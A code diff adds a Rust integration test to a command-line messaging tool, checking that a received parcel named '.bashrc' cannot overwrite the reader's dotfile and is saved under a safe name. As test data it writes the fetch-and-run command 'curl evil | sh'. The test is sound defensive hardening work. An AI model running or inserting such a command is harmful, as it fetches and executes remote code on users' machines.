@@ -200,3 +200,56 @@ fn return_to_sender_and_a_summons_from_the_command_line() {
     let out = cli.ok_as("twilight", &["summons", "end", id]);
     assert!(out.contains(": ended"), "{out}");
 }
+
+/// Hardening finding 4: a parcel named `.bashrc` overwrote the reader's `.bashrc`
+/// without asking. The sender chooses the name; the reader's files are the reader's.
+#[test]
+fn a_saved_parcel_neither_overwrites_a_file_nor_lands_as_a_dotfile() {
+    let server = Server::start();
+    let cli = Cli::new(&server);
+    cli.register("spike", "purple-dragon");
+    cli.register("amethyst", "purple-dragon");
+    let out_dir = tempfile::tempdir().unwrap();
+    let sent = out_dir.path().join(".bashrc");
+    std::fs::write(&sent, b"curl evil | sh\n").unwrap();
+    cli.ok_as(
+        "spike",
+        &[
+            "letter",
+            "send",
+            "amethyst",
+            "Your settings",
+            "--parcel",
+            sent.to_str().unwrap(),
+        ],
+    );
+    let home = tempfile::tempdir().unwrap();
+    std::fs::write(home.path().join(".bashrc"), b"alias ll='ls -l'\n").unwrap();
+    std::fs::write(home.path().join("bashrc"), b"notes\n").unwrap();
+    let inbox = cli.ok_as("amethyst", &["letter", "inbox"]);
+    let id = inbox.split_whitespace().next().unwrap();
+    let out = cli.ok_as(
+        "amethyst",
+        &[
+            "letter",
+            "read",
+            id,
+            "--save",
+            home.path().to_str().unwrap(),
+        ],
+    );
+    assert_eq!(
+        std::fs::read(home.path().join(".bashrc")).unwrap(),
+        b"alias ll='ls -l'\n"
+    );
+    assert_eq!(
+        std::fs::read(home.path().join("bashrc")).unwrap(),
+        b"notes\n"
+    );
+    let saved = home.path().join("bashrc (1)");
+    assert_eq!(std::fs::read(&saved).unwrap(), b"curl evil | sh\n");
+    assert!(
+        out.contains(&format!("parcel saved: {}", saved.display())),
+        "{out}"
+    );
+}
